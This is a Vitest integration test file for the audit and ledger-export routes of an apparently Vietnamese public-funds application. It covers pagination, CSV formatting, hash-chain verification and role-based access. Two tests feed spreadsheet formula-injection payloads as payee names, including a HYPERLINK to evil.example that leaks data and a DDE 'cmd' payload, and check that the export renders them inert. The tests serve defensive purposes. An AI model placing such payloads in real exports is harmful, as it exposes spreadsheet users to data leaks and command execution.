import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { entryFromCsvRecord } from '../../shared/audit/presentation/ledger-csv.ts';
import { GENESIS_HASH, verifyChain } from '../../shared/ledger/domain/hash-chain.ts';
import { ROLES } from '../../shared/platform/roles.ts';
import { ROUTES } from '../../shared/routes.ts';
import { cellValues, looksRunnable, openInSpreadsheet } from '../support/spreadsheet-reader.ts';
import { steps } from './support/api-steps.ts';
import { type Runtime, startRuntime } from './support/local-runtime.ts';

let rt: Runtime;
let s: ReturnType<typeof steps>;
let allocationId: string;
const FY = 2024;

beforeAll(async () => {
  rt = await startRuntime();
  s = steps(rt);
  allocationId = (
    await s.createAllocation({ fundingLine: 'local', commune: 'Bha Lê', amountVnd: 900_000_000 })
  ).id;
  for (const amount of [11_000_000, 22_000_000, 33_000_000]) {
    const submitted = await s.submit(allocationId, amount);
    await s.approveAll(submitted.body.id);
  }
});
afterAll(async () => {
  await rt?.stop();
});

describe('the audit routes over HTTP', () => {
  it('lists, pages and exports the year, and the CSV carries a BOM, CRLF and the same entries', async () => {
    const token = await s.as('auditor-an', 'auditor');
    const first = await rt.call('GET', `/ledger/entries?fiscalYear=${FY}&limit=2`, { token });
    const second = await rt.call(
      'GET',
      `/ledger/entries?fiscalYear=${FY}&limit=2&cursor=${first.body.nextCursor}`,
      { token },
    );
    const csv = await fetch(`${rt.url}/ledger/entries?fiscalYear=${FY}`, {
      headers: { authorization: `Bearer ${token}`, accept: 'text/csv' },
    });
    const bytes = new Uint8Array(await csv.arrayBuffer());
    const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes);
    expect(first.body.items).toHaveLength(2);
    expect(second.body.items).toHaveLength(1);
    expect(second.body.nextCursor).toBeUndefined();
    expect(first.body.items[0]).toMatchObject({
      allocationId,
      seq: 1,
      amountVnd: 11_000_000,
      commune: 'Bha Lê',
    });
    expect(first.body.items[0].approvals.map((a: { level: string }) => a.level)).toEqual([
      'district',
      'treasury',
    ]);
    expect(csv.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows = parse(text, { bom: true, columns: true }) as Record<string, string>[];
    expect(rows.map((r) => r.hash)).toEqual(
      [...first.body.items, ...second.body.items].map((e: { hash: string }) => `sha256:${e.hash}`),
    );
    expect(rows.map((r) => r.amountVnd)).toEqual(['11000000', '22000000', '33000000']);
    expect(text.split('\r\n')).toHaveLength(5); // header, three rows, and the empty string after the last CRLF
  });

  it('writes formula payloads as inert text and hashes a spreadsheet keeps, so a copy re-verifies', async () => {
    // This year's plan (payments are made within its period); the test reads its own allocation's entries.
    const year = 2024;
    const payees = [
      '=HYPERLINK("http://evil.example/?leak","Xem")',
      '+1+1',
      '  -2',
      '＠SUM(1)',
      "=cmd|' /C calc'!A0",
    ];
    const id = (await s.createAllocation({ fiscalYear: year, fundingLine: 'local', amountVnd: 900_000_000 }))
      .id;
    for (const [i, name] of payees.entries()) {
      const submitted = await s.submit(id, 1_000_000 * (i + 1), 'finance-lan', undefined, {
        payee: { name, kind: 'household' },
        purpose: i === 0 ? '@đợt 1' : 'Hỗ trợ làm nhà',
      });
      expect(submitted.status).toBe(201);
      await s.approveAll(submitted.body.id);
    }
    const token = await s.as('auditor-an', 'auditor');
    const json = await rt.call('GET', `/ledger/entries?fiscalYear=${year}&allocationId=${id}&limit=500`, {
      token,
    });
    const res = await fetch(`${rt.url}/ledger/entries?fiscalYear=${year}&allocationId=${id}&format=csv`, {
      headers: { authorization: `Bearer ${token}` },
    });
    const csv = await res.text();
    const records = parse(csv, { bom: true, columns: true }) as Record<string, string>[];
    const copy = openInSpreadsheet(csv);

    expect(records.map((r) => r.payeeName)).toEqual(
      json.body.items.map((e: { payee: { name: string } }) => `'${e.payee.name}`),
    );
    expect(records.map((r) => r.payeeName)).toEqual(payees.map((p) => `'${p.trim()}`));
    expect(records[0]?.purpose).toBe("'@đợt 1");
    expect(copy.flatMap((row) => Object.values(row).filter((cell) => cell.f !== undefined))).toEqual([]);
    expect(copy.map((row) => [row.amountVnd?.t, row.amountVnd?.v])).toEqual(
      payees.map((_, i) => ['n', 1_000_000 * (i + 1)]),
    );
    expect(copy[0]?.prevHash?.v).toBe(`sha256:${GENESIS_HASH}`);
    const fromCopy = cellValues(copy).map(entryFromCsvRecord);
    expect(fromCopy).toEqual(json.body.items);
    expect(verifyChain(fromCopy)).toMatchObject({ valid: true, checked: payees.length });
  });

  it('gives people Vietnamese headers and the posting day in Vietnam last, formula payloads still inert, and a copy that re-verifies', async () => {
    const payees = ['=HYPERLINK("http://evil.example/?leak","Xem")', '@SUM(1)', '-1+1'];
    const purposes = ['=1+1', '+đợt 2', 'Hỗ trợ làm nhà'];
    const id = (await s.createAllocation({ fiscalYear: FY, fundingLine: 'local', amountVnd: 900_000_000 }))
      .id;
    for (const [i, name] of payees.entries()) {
      const submitted = await s.submit(id, 1_000_000 * (i + 1), 'finance-lan', undefined, {
        payee: { name, kind: 'household' },
        purpose: purposes[i],
      });
      expect(submitted.status).toBe(201);
      await s.approveAll(submitted.body.id);
    }
    const token = await s.as('auditor-an', 'auditor');
    const json = await rt.call('GET', `/ledger/entries?fiscalYear=${FY}&allocationId=${id}&limit=500`, {
      token,
    });
    const res = await fetch(
      `${rt.url}/ledger/entries?fiscalYear=${FY}&allocationId=${id}&format=csv&lang=vi`,
      {
        headers: { authorization: `Bearer ${token}` },
      },
    );
    const csv = await res.text();
    const records = parse(csv, { bom: true, columns: true }) as Record<string, string>[];
    const headers = Object.keys(records[0] ?? {});
    const copy = openInSpreadsheet(csv);
    // Written apart from the exporter: UTC+7, day first.
    const vnDay = (iso: string) =>
      new Date(Date.parse(iso) + 7 * 3_600_000).toISOString().slice(0, 10).split('-').reverse().join('/');
    const wrong = await rt.call('GET', `/ledger/entries?fiscalYear=${FY}&format=csv&lang=fr`, { token });

    expect(res.status).toBe(200);
    expect(res.headers.get('content-disposition')).toBe(`attachment; filename="so-cai-${FY}.csv"`);
    expect(headers).toEqual(
      expect.arrayContaining(['Năm kế hoạch', 'Đơn vị thụ hưởng', 'Nội dung thanh toán', 'Số tiền (đồng)']),
    );
    expect(headers).not.toContain('payeeName');
    expect(headers.at(-1)).toBe('Ngày ghi sổ');
    expect(records.map((r) => r['Ngày ghi sổ'])).toEqual(
      json.body.items.map((e: { postedAt: string }) => vnDay(e.postedAt)),
    );
    expect(records.map((r) => r['Ngày ghi sổ'])).toEqual(payees.map(() => '01/10/2024'));
    expect(records.map((r) => r['Đơn vị thụ hưởng'])).toEqual(payees.map((p) => `'${p}`));
    expect(records.map((r) => r['Nội dung thanh toán'])).toEqual(["'=1+1", "'+đợt 2", 'Hỗ trợ làm nhà']);
    expect(records.flatMap((r) => Object.values(r)).filter(looksRunnable)).toEqual([]);
    expect(copy.flatMap((row) => Object.values(row).filter((cell) => cell.f !== undefined))).toEqual([]);
    const fromCopy = cellValues(copy).map(entryFromCsvRecord);
    expect(fromCopy).toEqual(json.body.items);
    expect(verifyChain(fromCopy)).toMatchObject({ valid: true, checked: payees.length });
    expect(wrong.status).toBe(400);
  });

  it('answers 400 invalid_cursor to an edited cursor', async () => {
    const token = await s.as('auditor-an', 'auditor');
    const first = await rt.call('GET', `/ledger/entries?fiscalYear=${FY}&limit=1`, { token });
    const edited = `${first.body.nextCursor}x`;
    const res = await rt.call('GET', `/ledger/entries?fiscalYear=${FY}&limit=1&cursor=${edited}`, { token });
    expect(res.status).toBe(400);
    expect(res.body.error.code).toBe('invalid_cursor');
  });

  it('gives a statement and a verification that agree with the allocation', async () => {
    const token = await s.as('auditor-an', 'auditor');
    const statement = await rt.call('GET', `/allocations/${allocationId}/statement`, { token });
    const verify = await rt.call('GET', `/ledger/verify?allocationId=${allocationId}`, { token });
    const both = await rt.call('GET', `/ledger/verify?allocationId=${allocationId}&fiscalYear=${FY}`, {
      token,
    });
    expect(statement.body).toMatchObject({
      closingBalanceVnd: 66_000_000,
      disbursedVnd: 66_000_000,
      agreesWithAllocation: true,
    });
    expect(verify.body).toMatchObject({ valid: true, checked: 3, broken: [] });
    expect(both.status).toBe(400);
  });

  it('pages a statement from its newest lines, balances counted back from the allocation', async () => {
    const token = await s.as('auditor-an', 'auditor');
    const path = `/allocations/${allocationId}/statement`;
    const whole = await rt.call('GET', path, { token });
    const first = await rt.call('GET', `${path}?limit=2`, { token });
    const next = await rt.call('GET', `${path}?limit=2&cursor=${encodeURIComponent(first.body.nextCursor)}`, {
      token,
    });
    const edited = await rt.call('GET', `${path}?limit=2&cursor=${first.body.nextCursor}x`, { token });
    const withPeriod = await rt.call('GET', `${path}?limit=2&from=2024-01-01`, { token });
    const tooLarge = await rt.call('GET', `${path}?limit=501`, { token });
    expect(first.status).toBe(200);
    expect(first.body.lines.map((l: { seq: number; balanceVnd: number }) => [l.seq, l.balanceVnd])).toEqual([
      [2, 33_000_000],
      [3, 66_000_000],
    ]);
    expect(first.body).toMatchObject({ openingBalanceVnd: 11_000_000, closingBalanceVnd: 66_000_000 });
    expect(first.body.agreesWithAllocation).toBeUndefined();
    expect(next.body.lines).toEqual(whole.body.lines.slice(0, 1));
    expect(next.body).toMatchObject({ openingBalanceVnd: 0, closingBalanceVnd: 11_000_000 });
    expect(next.body.nextCursor).toBeUndefined();
    expect([...next.body.lines, ...first.body.lines]).toEqual(whole.body.lines);
    expect(edited.body.error.code).toBe('invalid_cursor');
    expect([withPeriod.status, tooLarge.status]).toEqual([400, 400]);
  });

  it('records every auditor query in the audit log, readable by auditors only', async () => {
    const token = await s.as('auditor-binh', 'auditor');
    await rt.call('GET', `/ledger/entries?fiscalYear=${FY}&commune=Bha%20L%C3%AA`, { token });
    const log = await rt.call('GET', '/audit-log?limit=5', { token });
    const asPlanner = await rt.call('GET', '/audit-log', { token: await s.as('planner-an', 'planner') });
    expect(log.status).toBe(200);
    expect(log.body.items[0]).toMatchObject({
      by: 'auditor-binh',
      route: 'GET /ledger/entries',
      filters: { fiscalYear: String(FY), commune: 'Bha Lê' },
      rows: 3,
    });
    expect(asPlanner.status).toBe(403);
  });

  it('shows a commune-scoped auditor only the audit-log entries about their commune', async () => {
    const district = await s.as('auditor-huyen', 'auditor');
    const bhaLe = await rt.token('auditor-bha-le', ['auditor'], { commune: 'Bha Lê' });
    const dang = await rt.token('auditor-dang', ['auditor'], { commune: 'Dang' });
    // About Bha Lê: a district-wide auditor's read filtered on it, and the Bha Lê auditor's own reads.
    await rt.call('GET', `/ledger/entries?fiscalYear=${FY}&commune=Bha%20L%C3%AA`, { token: district });
    await rt.call('GET', `/ledger/entries?fiscalYear=${FY}`, { token: bhaLe });
    await rt.call('GET', '/allocations', { token: bhaLe });
    // About Dang, and about no single commune.
    await rt.call('GET', `/ledger/entries?fiscalYear=${FY}`, { token: dang });
    await rt.call('GET', `/ledger/verify?fiscalYear=${FY}`, { token: district });

    const asBhaLe = await rt.call('GET', '/audit-log?limit=500', { token: bhaLe });
    const asDang = await rt.call('GET', '/audit-log?limit=500', { token: dang });
    const asDistrict = await rt.call('GET', '/audit-log?limit=500', { token: district });

    type Entry = { by: string; route: string; commune?: string };
    const seen = (res: typeof asBhaLe) => res.body.items.map((e: Entry) => `${e.by} ${e.route}`);
    expect(asBhaLe.status).toBe(200);
    expect(asBhaLe.body.items.every((e: Entry) => e.commune === 'Bha Lê')).toBe(true);
    expect(seen(asBhaLe)).toEqual(
      expect.arrayContaining([
        'auditor-huyen GET /ledger/entries',
        'auditor-bha-le GET /ledger/entries',
        'auditor-bha-le GET /allocations',
      ]),
    );
    expect(seen(asBhaLe)).not.toContain('auditor-dang GET /ledger/entries');
    expect(seen(asBhaLe)).not.toContain('auditor-huyen GET /ledger/verify');
    expect(seen(asDang)).toEqual(['auditor-dang GET /ledger/entries']);
    expect(seen(asDistrict)).toEqual(
      expect.arrayContaining([
        'auditor-dang GET /ledger/entries',
        'auditor-huyen GET /ledger/verify',
        'auditor-bha-le GET /audit-log',
      ]),
    );
    expect(asDistrict.body.items[0]).not.toHaveProperty('pk');
  });

  it('answers 403 to an auditor on every write route', async () => {
    const token = await s.as('auditor-an', 'auditor');
    // Every write route a token reaches (public ones, such as an e-mailed link's, take no token), but
    // an auditor's own e-mail subscription to the daily ledger digest (docs/integrity.md), which
    // changes no data of the ledger: subscribing to alerts is refused them below.
    const ownSubscription = new Set(['create-subscription', 'delete-subscription']);
    const writes = ROUTES.filter(
      (r) => r.method !== 'GET' && r.roles !== 'public' && !ownSubscription.has(r.functionId),
    );
    expect(writes.length).toBeGreaterThanOrEqual(5);
    for (const route of writes) {
      const res = await rt.call(route.method, route.path.replace('{id}', allocationId), {
        token,
        body: {},
        headers: { 'idempotency-key': 'auditor-tries-0001' },
      });
      expect(res.status, `${route.method} ${route.path}`).toBe(403);
    }
    expect((await s.getAllocation(allocationId)).disbursedVnd).toBe(66_000_000);
    const alerts = await rt.call('POST', '/subscriptions', {
      token,
      body: { email: 'kiem.toan@taygiang.gov.vn', scope: {} },
    });
    expect(alerts.status).toBe(403);
  });

  it('lets each role reach exactly the audit routes it should', async () => {
    const routes: [string, readonly string[]][] = [
      [`/ledger/entries?fiscalYear=${FY}`, ['auditor', 'planner', 'inspector']],
      [`/allocations/${allocationId}/statement`, ['auditor', 'planner', 'inspector', 'finance']],
      [`/ledger/verify?fiscalYear=${FY}`, ['auditor', 'planner', 'inspector']],
      ['/ledger/digests?date=2024-09-30', ['auditor', 'planner', 'inspector']],
      ['/audit-log', ['auditor']],
    ];
    for (const [path, allowed] of routes) {
      for (const role of ROLES) {
        const res = await rt.call('GET', path, { token: await s.as(`${role}-user`, role) });
        expect(res.status, `${role} GET ${path}`).toBe(allowed.includes(role) ? 200 : 403);
      }
    }
  });

  it("confines a commune-scoped inspector to their commune's entries", async () => {
    const other = await s.createAllocation({ fundingLine: 'local', commune: 'Dang', amountVnd: 100_000_000 });
    await s.approveAll((await s.submit(other.id, 5_000_000)).body.id);
    const scoped = await rt.token('inspector-dang', ['inspector'], { commune: 'Dang' });
    const mine = await rt.call('GET', `/ledger/entries?fiscalYear=${FY}`, { token: scoped });
    const theirs = await rt.call('GET', `/ledger/entries?fiscalYear=${FY}&commune=Bha%20L%C3%AA`, {
      token: scoped,
    });
    expect(mine.body.items.map((e: { commune: string }) => e.commune)).toEqual(['Dang']);
    expect(theirs.status).toBe(403);
  });
});
